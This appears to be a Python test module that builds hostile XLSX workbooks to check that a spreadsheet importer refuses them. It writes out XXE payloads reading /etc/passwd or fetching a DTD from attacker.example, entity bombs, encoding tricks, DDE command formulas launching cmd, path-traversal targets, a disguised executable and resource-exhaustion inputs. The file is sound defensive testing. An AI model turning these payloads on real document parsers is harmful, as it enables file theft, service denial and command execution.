"""Families of workbooks whose archive is sound and whose parts are not."""

from activity.ingest.archive import OLE
from activity.ingest.limits import MIB
from tests.hostile.packing import (
    BOOK,
    RELATIONS,
    SHEET,
    STRINGS,
    TYPES,
    Entry,
    entries,
    packed,
    parts,
    with_part,
    with_text,
)

PROGRAMS, ENTITIES, ENCODING = "macros or embedded programs", "XML entity", "encoding"
DAMAGED, CLAIMS, SAVE = "damaged", "claims", "Open"
READ = '"layout": "long"'
ROWS_END, OUTSIDE = "</sheetData>", "http://attacker.example/"
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def outside_entities():
    """A document type in every part, to fetch a file or a page."""
    for name, content in parts().items():
        start = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><'
        head, _, rest = content.partition(b"?>")
        changed = head + b"?>" + start + rest.lstrip().removeprefix(b"<").replace(b">", b">&b;", 1)
        yield name, with_part(name, changed), ENTITIES


def entity_bombs():
    """Entities that are little and become much."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bombs = {
        "laughs": f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]>',
        "quadratic": f'<!DOCTYPE a [<!ENTITY q "{"q" * 50_000}">]>',
        "parameter": '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>',
        "lower case": '<!doctype a [<!entity b "c">]>',
    }
    for kind, text in bombs.items():
        for name in (SHEET, STRINGS, BOOK):
            yield f"{kind} in {name}", with_text(name, "?>", f"?>{text}"), ENTITIES


def hidden_definitions():
    """Definitions where a look at the first bytes does not find them."""
    text = parts()[SHEET]
    definition = b'<!DOCTYPE a [<!ENTITY b "c">]>'
    late = {
        "behind a comment": b"<!--" + b"x" * 200_000 + b"-->" + definition,
        "behind a megabyte of blanks": b" " * MIB + definition,
        "across two blocks": b"<!--" + b"x" * (2**18 - len(text.split(b"?>")[0]) - 10) + b"-->",
    }
    late["across two blocks"] += definition
    for name, start in late.items():
        yield name, with_text(SHEET, b"?>", b"?>" + start), ENTITIES
    yield "at the end", with_part(SHEET, text + definition), ENTITIES
    plain = text.partition(b"?>")[2].decode()
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7"):
        hidden = f'<?xml version="1.0"?><!DOCTYPE a>{plain}'.encode(encoding)
        yield encoding, with_part(SHEET, hidden), (ENCODING, ENTITIES)
    declared = text.replace(b"UTF-8", b"UTF-7", 1)
    yield "UTF-7 declared", with_part(SHEET, declared), ENCODING
    yield "EBCDIC declared", with_part(SHEET, text.replace(b"UTF-8", b"cp037", 1)), ENCODING


def macros():
    """Programs under their own name, under another, or only spoken of."""
    for name in ("xl/vbaProject.bin", "xl/VBAPROJECT.BIN", "xl/vbaProjectSignature.bin",
                 "xl/macrosheets/sheet1.xml"):  # fmt: skip
        yield name, with_part(name, b"<a/>"), PROGRAMS
    yield "another name", with_part("xl/printer.bin", OLE + b"x" * 600), PROGRAMS
    yield "a program", with_part("xl/media/image1.png", b"MZ\x90\x00"), PROGRAMS
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    enabled = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    yield "macro-enabled", with_text(TYPES, main, enabled), PROGRAMS
    microsoft = "http://schemas.microsoft.com/office/2006/relationships/"
    yield "related", *_related(f"{microsoft}vbaProject")
    yield "macro sheet", *_related(f"{TYPE}xlMacrosheet")


def _related(kind, target="other.bin", said=PROGRAMS, mode=""):
    relation = f'<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    return with_text(RELATIONS, "</Relationships>", relation), said


def objects():
    """Things of other programs inside a workbook."""
    for name in ("xl/activeX/activeX1.xml", "xl/activeX/activeX1.bin", "xl/ctrl/oleObject1.bin",
                 "xl/embeddings/oleObject1.bin", "xl/embeddings/Letter.docx"):  # fmt: skip
        yield name, with_part(name, b"<a/>"), PROGRAMS
    for kind in ("oleObject", "control", "package", "attachedTemplate", "frame"):
        yield f"{kind} related", *_related(TYPE + kind)


def commands():
    """Formulas and links that ask another program to run."""
    link = '<?xml version="1.0"?><externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
    name = "xl/externalLinks/externalLink1.xml"
    yield "link", with_part(name, link + "</externalLink>"), "DDE"
    yield "link with a prefix", with_part(name, link.replace("<dde", "<x:dde")), "DDE"
    for text in ("cmd|'/c calc'!A0", "MSEXCEL|'\\..\\cmd.exe'!''", "DDE|&apos;x&apos;!A1"):
        formula = f'<row r="9"><c r="A9"><f>{text}</f><v>1</v></c></row>{ROWS_END}'
        yield f"formula {text[:8]}", with_text(SHEET, ROWS_END, formula), "DDE"


def far_cells():
    """One cell a long way off, so that room is made for all between."""
    for address in ("XFD1048576", "A999999999", "XFE1", "ZZZ9", "ZZZZZZ1", "ALL900000",
                    "A1048577", "A4294967297", "A18446744073709551617"):  # fmt: skip
        yield address, with_text(SHEET, ROWS_END, _far(address)), (CLAIMS, SAVE)
    yield "long number", with_text(SHEET, ROWS_END, _far("A" + "9" * 5000)), (CLAIMS, SAVE)
    yield "long letters", with_text(SHEET, ROWS_END, _far("Z" * 5000 + "1")), (CLAIMS, SAVE)
    for address in ("A0", "0", "A", "A-1", "1A", "", "É1", "A1:XFD1048576"):
        said = (SAVE, CLAIMS, DAMAGED)
        yield f"“{address}”", with_text(SHEET, ROWS_END, _far(address, row="9")), said


def _far(address, row=None):
    row = row or address.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    return f'<row r="{row}"><c r="{address}"><v>1</v></c></row>{ROWS_END}'


def many_rows(number=3_000_000):
    """Rows and cells beyond number, with and without their addresses."""
    cell = "<c><v>1</v></c>"
    texts = {
        "rows without addresses": "<row/>" * number,
        "rows of one cell": f"<row>{cell}</row>" * (number // 2),
        "one row of all": f'<row r="9">{cell * (number // 2)}</row>',
        "one row again and again": f'<row r="9"><c r="A9">{cell[3:]}</row>' * (number // 3),
        "empty cells": f'<row r="9">{"<c/>" * number}</row>',
    }
    for name, text in texts.items():
        # Spaces that differ keep it from being refused for its density alone.
        even = "".join(text[n : n + 9000] + f"<!--{n * 7919 % 10**40:>300}-->"
                       for n in range(0, 9000 * 3, 9000))  # fmt: skip
        yield name, with_text(SHEET, ROWS_END, even + text + ROWS_END), (CLAIMS, SAVE, "Unpacked")


def strings(times=20_000):
    """Lists of strings that are wrong, or that become much where they are used."""
    long = f"<si><t>{'long text ' * 3270}</t></si></sst>"
    last = parts()[STRINGS].count(b"<si>")
    cells = "".join(
        f'<row r="{n}"><c r="A{n}" t="s"><v>{last}</v></c></row>' for n in range(9, 9 + times)
    )
    held = parts(with_text(STRINGS, "</sst>", long))
    held[SHEET] = held[SHEET].replace(b"</sheetData>", cells.encode() + b"</sheetData>")
    grown = packed([Entry(name.encode(), content) for name, content in held.items()])
    yield "one text many times", grown, "too large or damaged"
    yield "a count that lies", with_text(STRINGS, 'count="', 'count="99999999'), ""
    for index in ("99999999", "-1", "1e9", "x", "4294967296", "18446744073709551616"):
        cell = f'<row r="9"><c r="A9" t="s"><v>{index}</v></c></row>{ROWS_END}'
        yield f"index {index}", with_text(SHEET, ROWS_END, cell), ""
    yield "none", packed([e for e in entries() if e.name != STRINGS.encode()]), ""
    yield "of no text", with_part(STRINGS, b"<sst><si/><si><t/></si></sst>"), ""
    yield "escaped NUL", with_text(STRINGS, "<t>Ambleton", "<t>_x0000_Amble&#1;ton"), ""


def styles(number=100_000):
    """A table of styles beyond need, and formats that are none."""
    text = parts()["xl/styles.xml"].decode()
    formats = "".join(f'<xf numFmtId="{n % 400}" fontId="0"/>' for n in range(number))
    yield "many", with_part("xl/styles.xml", text.replace("</cellXfs>", formats + "</cellXfs>")), ""
    odd = '<numFmts count="1"><numFmt numFmtId="999" formatCode="' + "[h]yd" * 20_000 + '"/>'
    odd += "</numFmts><fonts"
    yield "a long format", with_part("xl/styles.xml", text.replace("<fonts", odd, 1)), ""
    for style in ("999999999", "-1", "x", "18446744073709551616"):
        cell = f'<row r="9"><c r="A9" s="{style}"><v>1</v></c></row>{ROWS_END}'
        yield f"style {style}", with_text(SHEET, ROWS_END, cell), ""
    yield "none", packed([e for e in entries() if e.name != b"xl/styles.xml"]), ""


def formulas(times=20_000):
    """Formulas that go round, that never end, or that nobody calculated."""
    ring = "".join(f'<row r="{n}"><c r="A{n}"><f>B{n}</f></c><c r="B{n}"><f>A{n}</f></c></row>'
                   for n in range(9, 9 + times))  # fmt: skip
    yield "in a ring", with_text(SHEET, ROWS_END, ring + ROWS_END), ""
    deep = "(" * 100_000 + "1" + ")" * 100_000
    for name, text in (("deep", deep), ("long", "A1+" * 100_000 + "A1"), ("empty", "")):
        cell = f'<row r="9"><c r="N9"><f>{text}</f></c></row>{ROWS_END}'
        yield name, with_text(SHEET, ROWS_END, cell), ""
    for said in ('si="0" ref="A1:XFD1048576"', 'si="99999999999"', 'si="-1"', 'ref="x"'):
        cell = f'<row r="9"><c r="N9"><f t="shared" {said}>N9</f><v>1</v></c></row>{ROWS_END}'
        yield f"shared {said[:12]}", with_text(SHEET, ROWS_END, cell), ""


def broken_xml():
    """XML that ends nowhere, nests too deep or holds too much."""
    for name in (SHEET, STRINGS, BOOK, RELATIONS, "xl/styles.xml", TYPES):
        content = parts()[name]
        yield f"{name} cut", with_part(name, content[: len(content) * 2 // 3]), ""
        yield f"{name} noise", with_part(name, b"<" + bytes(range(1, 256)) * 20), ""
        yield f"{name} empty", with_part(name, b""), ""
    for name in (SHEET, BOOK):
        deep = "<a>" * 200_000 + "</a>" * 200_000
        yield f"{name} deep", with_text(name, "?>", f"?>{deep}"), ""
        wide = "<a " + "".join(f'b{n}="" ' for n in range(100_000)) + "/>"
        yield f"{name} wide", with_text(name, "?>", f"?>{wide}"), ""


def sheet_lists(times=20_000):
    """Lists of sheets that are too long, name none, or lead out of the workbook."""
    sheet = '<sheet name="S{0}" sheetId="{0}" r:id="rId1"/>'
    many = "".join(sheet.format(n) for n in range(2, times))
    yield "one sheet many times", with_text(BOOK, "</sheets>", many + "</sheets>"), DAMAGED
    twice = sheet.format(2)
    yield "one sheet twice", with_text(BOOK, "</sheets>", twice + "</sheets>"), DAMAGED
    for target in ("../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", OUTSIDE, "",
                   "worksheets/none.xml", "../xl/workbook.xml"):  # fmt: skip
        changed = with_text(RELATIONS, "worksheets/sheet1.xml", target)
        yield f"leads to {target}", changed, (SAVE, DAMAGED, "no rows")
    yield "no sheets", with_text(BOOK, "<sheets>", "<x>"), (DAMAGED, "no rows")


def sheet_names():
    """Sheets called what no page and no table can hold."""
    for name in ("Data" * 10_000, "\u202eatad", "a&#10;b", "'", "..", "&lt;script&gt;", " "):
        yield f"called {name[:9]}", with_text(BOOK, 'name="Data"', f'name="{name}"'), ""


def links():
    """Links to other workbooks and places: accepted, never followed, and named."""
    for number, target in enumerate(
        (
            f"{OUTSIDE}prices.xlsx",
            "file:///C:/secret/prices.xlsx",
            "\\\\attacker\\share\\prices.xlsx",
            "prices%20.xlsx",
        )
    ):
        relation = (
            f'<Relationships><Relationship Id="rId1" Type="{TYPE}externalLinkPath" '
            f'Target="{target}" TargetMode="External"/></Relationships>'
        )
        added = [
            Entry(b"xl/externalLinks/externalLink1.xml", b"<externalLink><externalBook/>"),
            Entry(b"xl/externalLinks/_rels/externalLink1.xml.rels", relation.encode()),
        ]
        yield f"{number} {target[:12]}", packed([*entries(), *added]), READ
    address = _related(f"{TYPE}hyperlink", OUTSIDE, READ, ' TargetMode="External"')
    yield "address", *address
    connection = b'<connections><connection id="1" name="Prices" type="1"/></connections>'
    yield "query", with_part("xl/connections.xml", connection), READ


FAMILIES = (
    outside_entities, entity_bombs, hidden_definitions, macros, objects, commands, far_cells,
    many_rows, strings, styles, formulas, broken_xml, sheet_lists, sheet_names, links,
)  # fmt: skip
